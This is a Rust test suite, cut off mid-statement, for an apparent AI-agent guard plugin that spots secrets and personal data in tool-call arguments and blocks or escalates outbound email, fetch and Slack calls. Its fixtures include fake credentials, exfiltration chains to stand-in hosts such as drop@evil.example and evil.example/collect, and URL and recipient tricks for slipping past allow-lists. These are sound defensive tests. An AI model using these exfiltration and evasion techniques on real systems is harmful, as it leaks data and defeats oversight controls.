use super::*;
use arbiter_guest::serde_json;
use arbiter_guest::testing::{ActionBuilder, run, run_task, settings as parse};

// Test secrets are assembled at run time so the source holds no token-shaped literals.
fn aws() -> String {
    format!("{}{}", "AKIA", "IOSFODNN7EXAMPLE")
}
fn github() -> String {
    format!("{}{}", "ghp_", "0123456789abcdefghijABCDEFGHIJklmnop")
}
fn github_pat() -> String {
    format!(
        "{}{}",
        "github_pat_",
        "11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcd"
    )
}
fn slack() -> String {
    format!("{}{}", "xox", "b-1234567890-0987654321-abcdefghijklmnop")
}
fn stripe() -> String {
    format!("{}{}", "sk_", "live_4eC39HqLyjWDarjtT1zdp7dc")
}
fn pem() -> String {
    format!(
        "-----BEGIN {} PRIVATE KEY-----\nMIIEowIBAAKCAQEAx\n-----END RSA PRIVATE KEY-----",
        "RSA"
    )
}
const JWT: &str = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk";

fn b64(data: &[u8], url: bool) -> String {
    let alphabet: &[u8] = if url {
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    } else {
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    };
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |acc, (i, b)| acc | (u32::from(*b) << (16 - 8 * i)));
        for i in 0..=chunk.len() {
            out.push(alphabet[((n >> (18 - 6 * i)) & 63) as usize] as char);
        }
        if !url {
            for _ in chunk.len()..3 {
                out.push('=');
            }
        }
    }
    out
}
fn hex(data: &[u8]) -> String {
    data.iter().map(|b| format!("{b:02x}")).collect()
}
fn percent(data: &[u8]) -> String {
    data.iter().map(|b| format!("%{b:02X}")).collect()
}

fn demo() -> Value {
    serde_json::from_str(include_str!("../example-settings.json")).unwrap()
}

fn write_file(content: Value) -> Action {
    ActionBuilder::new()
        .task("t-1", "summarize-repo")
        .tool("fs", "write_file")
        .arguments(json!({"path": "/repo/notes.txt", "content": content}))
        .build()
}

fn mail(to: Value, body: &str) -> Action {
    ActionBuilder::new()
        .task("t-1", "send-report")
        .tool("mail", "send_email")
        .arguments(json!({"to": to, "subject": "weekly report", "body": body}))
        .build()
}

/// Names of the detectors that fire on `arguments` under the demo settings.
fn detectors(arguments: Value) -> Vec<String> {
    detectors_with(demo(), arguments)
}

fn detectors_with(settings: Value, arguments: Value) -> Vec<String> {
    let settings = parse::<SensitivityPolicy>(settings).unwrap();
    scan::scan(&settings, &arguments, &[])
        .findings
        .iter()
        .map(|f| f.detector.name(&settings).to_owned())
        .collect()
}

fn redacted(verdict: &Verdict) -> Vec<&str> {
    verdict
        .obligations
        .iter()
        .filter(|o| o.kind == "redact")
        .map(|o| o.detail.as_str())
        .collect()
}

fn assert_reason_clean(verdict: &Verdict, secret: &str) {
    assert!(
        !verdict.reason.contains(secret),
        "reason echoes the secret: {}",
        verdict.reason
    );
    assert!(verdict.reason.len() < 1024);
    assert!(!verdict.reason.ends_with('.'));
}

// ---------------------------------------------------------------- settings

#[test]
fn describe_names_the_plugin() {
    let info = SensitivityPolicy::describe();
    assert_eq!(
        (
            info.name.as_str(),
            info.version.as_str(),
            info.kind.as_str()
        ),
        ("sensitivity", "0.1.0", "sensitivity")
    );
}

#[test]
fn example_and_empty_settings_parse() {
    let s = parse::<SensitivityPolicy>(demo()).unwrap();
    assert_eq!(s.egress.len(), 3);
    assert_eq!(s.patterns.len(), 3);
    let empty = parse::<SensitivityPolicy>(json!({})).unwrap();
    assert_eq!(empty.max_scan_bytes, settings::DEFAULT_MAX_SCAN_BYTES);
    assert_eq!(empty.decode_depth, 2);
    assert_eq!(empty.on_oversize, OnOversize::Deny);
}

#[test]
fn bad_settings_are_refused_with_the_field_named() {
    let err = |v: Value| parse::<SensitivityPolicy>(v).unwrap_err();
    assert!(err(json!({"egres": []})).contains("unknown field `egres`"));
    assert!(
        err(json!({"patterns": [{"name": "x", "label": "pii", "regex": "("}]}))
            .contains("patterns[0].regex")
    );
    assert!(
        err(json!({"patterns": [{"name": "x", "label": "secrett", "regex": "a"}]}))
            .contains("patterns[0].label")
    );
    assert!(
        err(json!({"patterns": [{"name": "x", "label": "pii", "regex": "a*"}]}))
            .contains("empty string")
    );
    assert!(
        err(json!({"patterns": [{"name": "email", "label": "pii", "regex": "a"}]}))
            .contains("already used")
    );
    assert!(
        err(json!({"disabled_detectors": ["emial"]}))
            .contains("disabled_detectors[0]: unknown detector `emial`")
    );
    assert!(err(json!({"max_scan_bytes": 0})).contains("max_scan_bytes"));
    assert!(err(json!({"decode_depth": 9})).contains("decode_depth"));
    assert!(err(json!({"on_oversize": "allow"})).contains("unknown variant"));
    let egress = |e: Value| err(json!({"egress": [e]}));
    assert!(
        egress(json!({"tool": "mail/send_email", "kind": "email", "destination": "to"}))
            .contains("egress[0].destination")
    );
    assert!(
        egress(json!({"tool": "mail/send_email", "kind": "email", "destination": []}))
            .contains("egress[0].destination")
    );
    assert!(egress(json!({"tool": "mail/send_email", "kind": "email", "destination": "/to", "allowed": ["https://x.com"]})).contains("egress[0].allowed[0]"));
    assert!(
        egress(json!({"tool": "mail/send_email", "kind": "fax", "destination": "/to"}))
            .contains("unknown variant `fax`")
    );
    assert!(
        egress(json!({"tool": "mail/send_email", "destination": "/to"}))
            .contains("missing field `kind`")
    );
    assert!(
        egress(json!({"tool": "a*b", "kind": "url", "destination": "/url"}))
            .contains("not at the end")
    );
}

// ---------------------------------------------------------------- detectors

#[test]
fn private_keys_are_secrets_and_redacted_on_non_egress() {
    let key = pem();
    let v = run::<SensitivityPolicy>(demo(), &write_file(json!(key))).unwrap();
    assert_eq!(v.effect, Effect::Allow);
    assert_eq!(redacted(&v), ["/content"]);
    assert!(v.labels.contains(&"secret".to_owned()));
    assert!(
        v.reason.contains("`private-key`") && v.reason.contains("`/content`"),
        "{}",
        v.reason
    );
    assert_reason_clean(&v, "MIIEow");
    // Lower-cased headers, OpenSSH and PuTTY formats.
    assert_eq!(
        detectors(json!({"k": "-----begin openssh private key-----\nb3Blbg=="})),
        ["private-key"]
    );
    assert_eq!(
        detectors(json!({"k": "PuTTY-User-Key-File-3: ssh-ed25519"})),
        ["private-key"]
    );
    assert_eq!(
        detectors(json!({"k": "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU"})),
        ["private-key"]
    );
}

#[test]
fn der_private_key_body_without_header_is_found_through_base64() {
    let mut der = vec![
        0x30, 0x82, 0x04, 0xa3, 0x02, 0x01, 0x00, 0x02, 0x82, 0x01, 0x01, 0x00,
    ];
    der.extend((0..60u8).map(|i| i.wrapping_mul(37)));
    assert!(detectors(json!({"k": b64(&der, false)})).contains(&"private-key".to_owned()));
}

#[test]
fn cloud_and_saas_tokens_are_detected() {
    assert_eq!(
        detectors(json!({"k": format!("aws_access_key_id={}", aws())})),
        ["aws-access-key"]
    );
    assert_eq!(
        detectors(json!({"k": format!("ASIA{}", "ABCDEFGHIJKLMNOP")})),
        ["aws-access-key"]
    );
    assert_eq!(
        detectors(json!({"k": format!("token {}", github())})),
        ["github-token"]
    );
    assert_eq!(detectors(json!({"k": github_pat()})), ["github-token"]);
    assert_eq!(detectors(json!({"k": slack()})), ["slack-token"]);
    assert_eq!(detectors(json!({"k": stripe()})), ["stripe-key"]);
    assert_eq!(
        detectors(json!({"k": "https://hooks.slack.com/services/T000/B000/XXXXXXXX"})),
        ["slack-webhook"]
    );
    // Too short or wrong case: not tokens.
    assert!(
        detectors(json!({"k": "AKIA1234 ghp_short sk_test_abcdefghijklmnop akiaiosfodnn7example"}))
            .is_empty()
    );
}

#[test]
fn gcp_service_account_json_is_detected_as_text_and_as_object() {
    let text = r#"{"type": "service_account", "project_id": "p", "private_key" : "abc"}"#;
    assert_eq!(detectors(json!({"creds": text})), ["gcp-service-account"]);
    let object = json!({"creds": {"type": "service_account", "private_key": "abc"}});
    assert_eq!(detectors(object), ["gcp-service-account"]);
}

#[test]
fn bearer_basic_jwt_and_url_credentials_are_detected() {
    assert_eq!(
        detectors(json!({"h": "Authorization: Bearer abcdef0123456789ABCDEF"})),
        ["bearer-token"]
    );
    assert_eq!(
        detectors(json!({"h": format!("Basic {}", b64(b"admin:hunter2", false))})),
        ["basic-auth"]
    );
    assert_eq!(detectors(json!({"t": JWT})), ["jwt"]);
    assert_eq!(
        detectors(json!({"u": "postgres://app:s3cr3t@db.internal:5432/prod"})),
        ["url-credentials"]
    );
    // Not secrets: prose, a dotted name, a JWT-shaped string without `alg`, a URL without a password.
    let not_jwt = format!("{}.abc.def", b64(br#"{"not":"a token"}"#, true));
    assert!(
        detectors(json!({
            "a": "bearer instruments are fine",
            "b": "www.example.com.au",
            "c": not_jwt,
            "d": "https://user@example.com/x",
            "e": "basic usage"
        }))
        .is_empty()
    );
}

#[test]
fn credential_named_fields_are_secrets_but_placeholders_are_not() {
    assert_eq!(
        detectors(json!({"db": {"Password": "correct-horse"}})),
        ["credential-field"]
    );
    assert_eq!(
        detectors(json!({"client_secret": "s3cr3tvalue"})),
        ["credential-field"]
    );
    assert!(
        detectors(
            json!({"password": "${DB_PASSWORD}", "api_key": "******", "secret": "[REDACTED]"})
        )
        .is_empty()
    );
}

#[test]
fn card_numbers_pass_luhn_and_issuer_checks() {
    assert_eq!(
        detectors(json!({"c": "card 4111 1111 1111 1111 exp 12/29"})),
        ["card-number"]
    );
    assert_eq!(
        detectors(json!({"c": "5500-0000-0000-0004"})),
        ["card-number"]
    );
    assert_eq!(
        detectors(json!({"c": 4111111111111111u64})),
        ["card-number"]
    );
    // A number glued in front of the card's groups does not hide it.
    assert_eq!(
        detectors(json!({"c": "2024 4111 1111 1111 1111"})),
        ["card-number"]
    );
    // Luhn failure, a Unix-ms timestamp, an order id: not cards.
    assert!(detectors(json!({"a": "4111 1111 1111 1112", "b": 1767225600005u64, "c": "order 12345678901234567"})).is_empty());
}

#[test]
fn card_numbers_are_pii_and_restricted() {
    let v = run::<SensitivityPolicy>(demo(), &write_file(json!("4111111111111111"))).unwrap();
    assert_eq!(v.effect, Effect::Allow);
    assert!(v.labels.contains(&"pii".to_owned()) && v.labels.contains(&"restricted".to_owned()));
    assert!(v.obligations.is_empty());
}

#[test]
fn personal_data_detectors() {
    assert_eq!(
        detectors(json!({"n": "contact jane.doe+ops@corp.example.org."})),
        ["email"]
    );
    assert_eq!(detectors(json!({"n": "ssn 123-45-6789"})), ["us-ssn"]);
    assert_eq!(
        detectors(json!({"n": "IBAN DE89 3704 0044 0532 0130 00"})),
        ["iban"]
    );
    // SSH remotes, invalid SSNs and IBANs with a bad check are not personal data.
    assert!(detectors(json!({"a": "git@github.com:org/repo.git", "b": "000-12-3456", "c": "DE89370400440532013001"})).is_empty());
}

#[test]
fn pii_on_non_egress_is_allowed_and_labelled_without_redaction() {
    let v = run::<SensitivityPolicy>(demo(), &write_file(json!("owner: jane@corp.example.org")))
        .unwrap();
    assert_eq!(v.effect, Effect::Allow);
    assert_eq!(v.labels, ["pii"]);
    assert!(v.obligations.is_empty());
    assert!(v.reason.contains("`email`") && v.reason.contains("`/content`"));
}

#[test]
fn secrets_in_object_keys_are_found_without_echoing_the_key() {
    let key = aws();
    let v = run::<SensitivityPolicy>(demo(), &write_file(json!({ key.clone(): 1 }))).unwrap();
    assert_eq!(v.effect, Effect::Allow);
    assert_eq!(redacted(&v), ["/content"]);
    assert!(
        v.reason.contains("an object key in `/content`"),
        "{}",
        v.reason
    );
    assert_reason_clean(&v, &key);
    for o in &v.obligations {
        assert!(!o.detail.contains(&key));
    }
}

// ---------------------------------------------------------------- encodings

#[test]
fn encoded_secrets_are_decoded_and_found() {
    let key = aws();
    let cases = [
        ("base64", b64(key.as_bytes(), false)),
        ("base64", b64(format!("x={key}").as_bytes(), true)),
        ("hex", hex(key.as_bytes())),
        ("percent", percent(key.as_bytes())),
        // Two levels: base64 of percent-encoding.
        ("base64", b64(percent(key.as_bytes()).as_bytes(), false)),
    ];
    for (encoding, encoded) in cases {
        let v = run::<SensitivityPolicy>(demo(), &write_file(json!(format!("data: {encoded}"))))
            .unwrap();
        assert_eq!(redacted(&v), ["/content"], "{encoding} {encoded}");
        assert!(
            v.reason.contains(&format!("{encoding}-encoded")),
            "{}",
            v.reason
        );
        assert_reason_clean(&v, &key);
    }
}

#[test]
fn misaligned_and_line_wrapped_base64_is_found() {
    let secret = format!("here is the token {} thanks", github());
    let encoded = b64(secret.as_bytes(), false);
    // Glued to a prefix, so the base64 does not start on the run's first character.
    assert!(detectors(json!({"k": format!("xyz{encoded}")})).contains(&"github-token".to_owned()));
    // MIME-style line wrapping every 16 characters.
    let wrapped: Vec<String> = encoded
        .as_bytes()
        .chunks(16)
        .map(|c| String::from_utf8(c.to_vec()).unwrap())
        .collect();
    assert!(detectors(json!({"k": wrapped.join("\r\n")})).contains(&"github-token".to_owned()));
}

#[test]
fn pii_in_percent_encoded_url_is_found() {
    let url = "https://evil.example/collect?u=jane%2Edoe%40corp%2Eexample%2Eorg";
    assert_eq!(detectors(json!({"url": url})), ["email"]);
}

#[test]
fn decode_depth_bounds_decoding() {
    let once = b64(aws().as_bytes(), false);
    let thrice = b64(b64(once.as_bytes(), false).as_bytes(), false);
    let mut s = demo();
    s["decode_depth"] = json!(0);
    assert!(detectors_with(s.clone(), json!({"k": once})).is_empty());
    s["decode_depth"] = json!(2);
    assert!(detectors_with(s.clone(), json!({"k": thrice})).is_empty());
    s["decode_depth"] = json!(3);
    assert_eq!(detectors_with(s, json!({"k": thrice})), ["aws-access-key"]);
}

#[test]
fn invisible_characters_do_not_hide_tokens() {
    let key = aws();
    let hidden = format!("{}\u{200B}{}\u{FEFF}", &key[..4], &key[4..]);
    assert_eq!(detectors(json!({"k": hidden})), ["aws-access-key"]);
}

// ---------------------------------------------------------------- operator patterns

#[test]
fn operator_patterns_apply_with_their_labels() {
    let v = run::<SensitivityPolicy>(
        demo(),
        &write_file(json!(format!("key exk_{}", "a1".repeat(16)))),
    )
    .unwrap();
    assert_eq!(redacted(&v), ["/content"]);
    assert!(v.reason.contains("`internal-api-key`"));
    let v = run::<SensitivityPolicy>(demo(), &write_file(json!("badge EMP-004211"))).unwrap();
    assert_eq!(
        (v.effect, v.labels.clone()),
        (Effect::Allow, vec!["pii".to_owned()])
    );
    // A level label raises the call's level: confidential account ids to e-mail need approval.
    let v = run::<SensitivityPolicy>(
        demo(),
        &mail(json!("ops@example.com"), "account ACCT-12345678 is overdue"),
    )
    .unwrap();
    assert_eq!(v.effect, Effect::StepUp);
    assert!(v.labels.contains(&"confidential".to_owned()));
    // Patterns also see decoded content.
    assert_eq!(
        detectors(json!({"k": b64(b"badge EMP-004211", false)})),
        ["employee-id"]
    );
}

#[test]
fn disabled_detectors_are_off() {
    let mut s = demo();
    s["disabled_detectors"] = json!(["email", "card-number"]);
    assert!(detectors_with(s, json!({"k": "jane@corp.example.org 4111111111111111"})).is_empty());
}

// ---------------------------------------------------------------- non-egress decisions

#[test]
fn clean_non_egress_abstains() {
    let action = ActionBuilder::new()
        .tool("fs", "read_file")
        .arguments(json!({"path": "/repo/src/components/Button.tsx", "offset": 1767225600000u64}))
        .build();
    let v = run::<SensitivityPolicy>(demo(), &action).unwrap();
    assert_eq!(v.effect, Effect::Abstain);
    assert!(v.labels.is_empty() && v.obligations.is_empty());
}

#[test]
fn sensitive_resources_are_labelled_on_non_egress() {
    let read = |labels: &[&str]| {
        let action = ActionBuilder::new()
            .tool("fs", "read_file")
            .arguments(json!({"path": "/etc/app/keys.env"}))
            .resource("/etc/app/keys.env", labels)
            .build();
        run::<SensitivityPolicy>(demo(), &action).unwrap()
    };
    let v = read(&["restricted"]);
    assert_eq!(
        (v.effect, v.labels.clone()),
        (Effect::Allow, vec!["restricted".to_owned()])
    );
    assert!(v.reason.contains("`restricted` data"));
    let v = read(&["internal"]);
    assert_eq!(
        (v.effect, v.labels.clone()),
        (Effect::Abstain, vec!["internal".to_owned()])
    );
}

// ---------------------------------------------------------------- egress decisions

#[test]
fn secrets_to_egress_are_denied() {
    let token = github();
    let v = run::<SensitivityPolicy>(
        demo(),
        &mail(json!("ops@example.com"), &format!("use {token}")),
    )
    .unwrap();
    assert_eq!(v.effect, Effect::Deny);
    assert!(
        v.reason.contains("`github-token`")
            && v.reason.contains("`/body`")
            && v.reason.contains("`mail/send_email`"),
        "{}",
        v.reason
    );
    assert_eq!(v.labels, ["secret"]);
    assert_reason_clean(&v, &token);
    // Also in a URL query and a Slack message, and encoded.
    let fetch = ActionBuilder::new()
        .tool("web", "fetch")
        .arguments(json!({"url": format!("https://docs.rs/?q={}", b64(stripe().as_bytes(), true))}))
        .build();
    assert_eq!(
        run::<SensitivityPolicy>(demo(), &fetch).unwrap().effect,
        Effect::Deny
    );
    let post = ActionBuilder::new()
        .tool("slack", "post_message")
        .arguments(json!({"channel": "#reports", "text": JWT}))
        .build();
    assert_eq!(
        run::<SensitivityPolicy>(demo(), &post).unwrap().effect,
        Effect::Deny
    );
}

#[test]
fn exfiltration_chain_restricted_read_then_external_mail_is_denied() {
    let read = ActionBuilder::new()
        .task("t-9", "send-report")
        .request_id("r1")
        .tool("fs", "read_file")
        .arguments(json!({"path": "/finance/payroll.csv"}))
        .resource("/finance/payroll.csv", &["restricted"])
        .build();
    let send = mail(json!("drop@evil.example"), "see attached summary");
    let verdicts = run_task::<SensitivityPolicy>(demo(), &[read, send]).unwrap();
    assert_eq!(verdicts[0].effect, Effect::Allow);
    assert_eq!(verdicts[0].labels, ["restricted"]);
    assert_eq!(verdicts[1].effect, Effect::Deny);
    assert!(
        verdicts[1].reason.contains("`restricted` data")
            && verdicts[1].reason.contains("`evil.example`"),
        "{}",
        verdicts[1].reason
    );
}

#[test]
fn exfiltration_chain_secret_in_args_then_slack_is_denied_or_stepped_up() {
    let write = write_file(json!(format!("AWS_ACCESS_KEY_ID={}", aws())));
    let post = |channel: &str| {
        ActionBuilder::new()
            .tool("slack", "post_message")
            .arguments(json!({"channel": channel, "text": "done, config updated"}))
            .build()
    };
    let verdicts =
        run_task::<SensitivityPolicy>(demo(), &[write.clone(), post("#random")]).unwrap();
    assert_eq!(
        (verdicts[0].effect, verdicts[0].labels.clone()),
        (Effect::Allow, vec!["secret".to_owned()])
    );
    assert_eq!(verdicts[1].effect, Effect::Deny);
    assert!(verdicts[1].reason.contains("secrets") && verdicts[1].reason.contains("`random`"));
    let verdicts = run_task::<SensitivityPolicy>(demo(), &[write, post("#eng-platform")]).unwrap();
    assert_eq!(verdicts[1].effect, Effect::StepUp);
    assert!(
        verdicts[1]
            .obligations
            .contains(&Obligation::require_approval("security-approvers"))
    );
}

#[test]
fn restricted_history_to_allowed_destination_steps_up() {
    let action = ActionBuilder::new()
        .tool("mail", "send_email")
        .arguments(json!({"to": "cfo@example.com", "body": "summary attached"}))
        .history("db", "query", Effect::Allow, &["restricted"])
        .build();
    let v = run::<SensitivityPolicy>(demo(), &action).unwrap();
    assert_eq!(v.effect, Effect::StepUp);
    assert!(v.reason.contains("`example.com`"));
}

#[test]
fn history_from_denied_or_stepped_up_entries_still_counts() {
    let action = ActionBuilder::new()
        .tool("mail", "send_email")
        .arguments(json!({"to": "x@evil.example", "body": "hi"}))
        .history("fs", "write_file", Effect::Deny, &["secret"])
        .build();
    assert_eq!(
        run::<SensitivityPolicy>(demo(), &action).unwrap().effect,
        Effect::Deny
    );
}

#[test]
fn confidential_data_to_egress_steps_up() {
    let action = ActionBuilder::new()
        .tool("web", "fetch")
        .arguments(json!({"url": "https://docs.rs/serde"}))
        .history("db", "query", Effect::Allow, &["confidential"])
        .build();
    let v = run::<SensitivityPolicy>(demo(), &action).unwrap();
    assert_eq!(v.effect, Effect::StepUp);
    assert!(v.reason.contains("`confidential` data"));
    // Confidential resource on the egress call itself.
    let action = ActionBuilder::new()
        .tool("mail", "send_email")
        .arguments(json!({"to": "x@evil.example", "body": "hi"}))
        .resource("report-q3", &["confidential"])
        .build();
    let v = run::<SensitivityPolicy>(demo(), &action).unwrap();
    assert_eq!(
        (v.effect, v.labels.clone()),
        (Effect::StepUp, vec!["confidential".to_owned()])
    );
}

#[test]
fn pii_to_egress_steps_up_with_redaction_and_recipients_are_not_pii() {
    let v = run::<SensitivityPolicy>(
        demo(),
        &mail(
            json!("Ops Team <ops@example.com>"),
            "customer jane@corp.example.org asked",
        ),
    )
    .unwrap();
    assert_eq!(v.effect, Effect::StepUp);
    assert_eq!(redacted(&v), ["/body"]);
    assert_eq!(v.labels, ["pii"]);
    // The recipient address alone is routing, not data carried.
    let v = run::<SensitivityPolicy>(
        demo(),
        &mail(
            json!(["ops@example.com", "cfo@reports.example.com"]),
            "all green",
        ),
    )
    .unwrap();
    assert_eq!(v.effect, Effect::Allow);
    assert!(v.labels.is_empty());
}

#[test]
fn clean_egress_is_allowed_even_to_external_destinations() {
    let v = run::<SensitivityPolicy>(
        demo(),
        &mail(json!("partner@other.example"), "meeting at 3"),
    )
    .unwrap();
    assert_eq!(v.effect, Effect::Allow);
    assert!(v.reason.contains("`other.example`"));
}

#[test]
fn pii_history_to_external_destination_steps_up() {
    let action = ActionBuilder::new()
        .tool("mail", "send_email")
        .arguments(json!({"to": "x@evil.example", "body": "hi"}))
        .history("db", "query", Effect::Allow, &["pii", "internal"])
        .build();
    assert_eq!(
        run::<SensitivityPolicy>(demo(), &action).unwrap().effect,
        Effect::StepUp
    );
    let action = ActionBuilder::new()
        .tool("mail", "send_email")
        .arguments(json!({"to": "x@example.com", "body": "hi"}))
        .history("db", "query", Effect::Allow, &["pii", "internal"])
        .build();
    assert_eq!(
        run::<SensitivityPolicy>(demo(), &action).unwrap().effect,
        Effect::Allow
    );
}

#[test]
fn destination_tricks_do_not_pass_as_allowed() {
    let tainted = |args: Value| {
        let action = ActionBuilder::new()
            .tool("mail", "send_email")
            .arguments(args)
            .history("fs", "read_file", Effect::Allow, &["restricted"])
            .build();
        run::<SensitivityPolicy>(demo(), &action).unwrap()
    };
    for to in [
        json!("boss@example.com <drop@evil.example>"),
        json!("ops@example.com, drop@evil.example"),
        json!("ops@example.com; drop@evil.example"),
        json!(["ops@example.com", "drop@evil.example"]),
        json!("\"ops@example.com\"@evil.example"),
        json!("ops@example.com.evil.example"),
        json!("ops@notexample.com"),
        json!("ops"),
        json!(42),
        json!([]),
    ] {
        let v = tainted(json!({"to": to.clone(), "body": "x"}));
        assert_eq!(v.effect, Effect::Deny, "to = {to}: {}", v.reason);
    }
    // A Bcc outside the boundary counts as a destination too; a missing `/to` is unknown.
    assert_eq!(
        tainted(json!({"to": "ops@example.com", "bcc": "drop@evil.example", "body": "x"})).effect,
        Effect::Deny
    );
    let v = tainted(json!({"body": "x"}));
    assert_eq!(v.effect, Effect::Deny);
    assert!(v.reason.contains("missing destination"), "{}", v.reason);
    // Case and trailing dots are normalised; subdomains match `*.example.com`.
    for to in ["Ops@EXAMPLE.com.", "a@eu.reports.example.com"] {
        assert_eq!(
            tainted(json!({"to": to, "body": "x"})).effect,
            Effect::StepUp,
            "{to}"
        );
    }
}

#[test]
fn url_tricks_do_not_pass_as_allowed() {
    let fetch = |url: &str| {
        let action = ActionBuilder::new()
            .tool("web", "fetch")
            .arguments(json!({ "url": url }))
            .history("fs", "read_file", Effect::Allow, &["restricted"])
            .build();
        run::<SensitivityPolicy>(demo(), &action).unwrap().effect
    };
    for url in [
        "https://docs.rs@evil.example/",
        "https://evil.example\\@docs.rs/",
        "https://evil.example#@docs.rs",
        "https://docs.rs.evil.example/",
        "https://docs%2Ers/",
        "//docs.rs/",
        "docs.rs",
        "https://[::1]/",
        "https://docs.rs\n.evil.example/",
    ] {
        assert_eq!(fetch(url), Effect::Deny, "{url}");
    }
    assert_eq!(fetch("https://DOCS.rs:443/serde"), Effect::StepUp);
    assert_eq!(
        fetch("https://tokio.readthedocs.io/en/latest"),
        Effect::StepUp
    );
}

#[test]
fn url_credentials_in_fetch_are_denied() {
    let action = ActionBuilder::new()
        .tool("web", "fetch")
        .arguments(json!({"url": "https://admin:pa55word@docs.rs/private"}))
        .build();
    let v = run::<SensitivityPolicy>(demo(), &action).unwrap();
    assert_eq!(v.effect, Effect::Deny);
    assert!(v.reason.contains("`url-credentials`"));
    assert_reason_clean(&v, "pa55word");
}

// ---------------------------------------------------------------- limits and fail-closed

#[test]
fn oversized_arguments_fail_closed() {
    let big = "a".repeat(70_000);
    let v = run::<SensitivityPolicy>(demo(), &write_file(json!(big))).unwrap();
    assert_eq!(v.effect, Effect::Deny);
    assert!(v.reason.contains("scan limit of 65536 bytes"));
    let mut s = demo();
    s["on_oversize"] = json!("step-up");
    s["max_scan_bytes"] = json!(1024);
    let v = run::<SensitivityPolicy>(s, &write_file(json!("b".repeat(2000)))).unwrap();
    assert_eq!(v.effect, Effect::StepUp);
    assert!(
        v.obligations
            .contains(&Obligation::require_approval("security-approvers"))
    );
    // Many keys count too.
    let mut map = serde_json::Map::new();
    for i in 0..10_000 {
        map.insert(format!("key-{i:08}"), Value::Null);
    }
    let v = run::<SensitivityPolicy>(demo(), &write_file(Value::Object(map))).unwrap();
    assert_eq!(v.effect, Effect::Deny);
}

#[test]
fn obligations_and_reasons_stay_within_contract_limits() {
    // 40 separate pii arguments: redactions collapse to the top-level argument.
    let emails: Vec<String> = (0..40)
        .map(|i| format!("user{i}@corp.example.org"))
        .collect();
    let action = ActionBuilder::new()
        .tool("mail", "send_email")
        .arguments(json!({"to": "ops@example.com", "body": "list", "attachments": emails}))
        .build();
    let v = run::<SensitivityPolicy>(demo(), &action).unwrap();
    assert_eq!(v.effect, Effect::StepUp);
    assert!(v.obligations.len() <= 16);
    assert_eq!(redacted(&v), ["/attachments"]);
    assert!(v.reason.contains("and 39 more findings"));
    // More findings than are kept: the whole arguments are redacted.
    let many: serde_json::Map<String, Value> = (0..100)
        .map(|i| (format!("k{i}"), json!(github())))
        .collect();
    let v = run::<SensitivityPolicy>(demo(), &write_file(Value::Object(many))).unwrap();
    assert_eq!(redacted(&v), [""]);
    // Long keys in pointers are clipped in reasons.
    let long_key = "k".repeat(5000);
    let v = run::<SensitivityPolicy>(demo(), &write_file(json!({ long_key: github() }))).unwrap();
    assert!(v.reason.len() < 1024);
    assert!(v.labels.len() <= 16);
}

#[test]
fn no_task_and_non_object_arguments_are_judged() {
    let action = ActionBuilder::new()
        .no_task()
        .tool("mail", "send_email")
        .arguments(json!(["to", aws()]))
        .build();
    let v = run::<SensitivityPolicy>(demo(), &action).unwrap();
    assert_eq!(v.effect, Effect::Deny);
    assert!(v.reason.contains("`/1`"));
}

#[test]
fn first_matching_egress_rule_wins_and_patterns_are_exact() {
    let s = json!({"egress": [
        {"tool": "mail/*", "kind": "email", "destination": "/to", "allowed": ["example.com"]},
        {"tool": "mail/send_email", "kind": "email", "destination": "/to", "allowed": ["evil.example"]}
    ]});
    let action = ActionBuilder::new()
        .tool("mail", "send_email")
        .arguments(json!({"to": "x@evil.example"}))
        .history("fs", "read_file", Effect::Allow, &["restricted"])
        .build();
    assert_eq!(
        run::<SensitivityPolicy>(s.clone(), &action).unwrap().effect,
        Effect::Deny
    );
    // A lookalike tool name is not the egress tool (so it is judged as non-egress).
    let action = ActionBuilder::new()
        .tool("mail", "send_emaiI")
        .arguments(json!({"to": "x@evil.example"}))
        .build();
    assert_eq!(
        run::<SensitivityPolicy>(s, &action).unwrap().effect,
        Effect::Allow
    );
}

/// Rough native timing: `cargo test -p sensitivity --release -- --ignored --nocapture`.
/// `TIMING_NO_PATTERNS=1` drops the operator patterns, `TIMING_DECODE_DEPTH=n` sets the depth.
#[test]
#[ignore = "timing, run in release by hand"]
fn timing_typical_arguments() {
    let mut raw = demo();
    if std::env::var("TIMING_NO_PATTERNS").is_ok_and(|v| !v.is_empty()) {
        raw["patterns"] = json!([]);
    }
    if let Ok(d) = std::env::var("TIMING_DECODE_DEPTH") {
        raw["decode_depth"] = json!(d.parse::<u8>().unwrap());
    }
    let settings = parse::<SensitivityPolicy>(raw).unwrap();
    let body = "Hi team, the weekly report is ready. Revenue grew 4% week over week; churn is flat. \
                Open issues: 12 (3 P1). See https://docs.rs/serde/latest/serde/ for the schema and \
                /repo/src/components/Button.tsx for the UI change. Next review on 2026-01-08 at 10:00. \
                Ticket ACCT-REVIEW-77, build 1767225600000, commit 4f2a9c1e7b3d. Thanks!";
    let actions = [
        mail(json!("ops@example.com"), body),
        ActionBuilder::new()
            .tool("fs", "read_file")
            .arguments(json!({"path": "/repo/src/lib.rs", "offset": 0, "limit": 4096}))
            .build(),
        ActionBuilder::new()
            .tool("db", "query")
            .arguments(json!({"sql": "SELECT id, status, amount FROM invoices WHERE customer_id = $1 AND created_at > $2 ORDER BY created_at DESC LIMIT 50", "params": ["cus_8472", "2025-12-01"]}))
            .build(),
    ];
    for action in &actions {
        let bytes = action.arguments.to_string().len();
        let n = 20_000;
        let mut best = std::time::Duration::MAX;
        let mut best_scan = std::time::Duration::MAX;
        for _ in 0..5 {
            let start = std::time::Instant::now();
            for _ in 0..n {
                std::hint::black_box(evaluate(&settings, std::hint::black_box(action)));
            }
            best = best.min(start.elapsed() / n);
            let start = std::time::Instant::now();
            for _ in 0..n {
                std::hint::black_box(scan::scan(
                    &settings,
                    std::hint::black_box(&action.arguments),
                    &[],
                ));
            }
            best_scan = best_scan.min(start.elapsed() / n);
        }
        eprintln!(
            "{}/{} ({bytes} bytes): {best:?} per evaluation, {best_scan:?} per scan",
            action.tool.server, action.tool.name
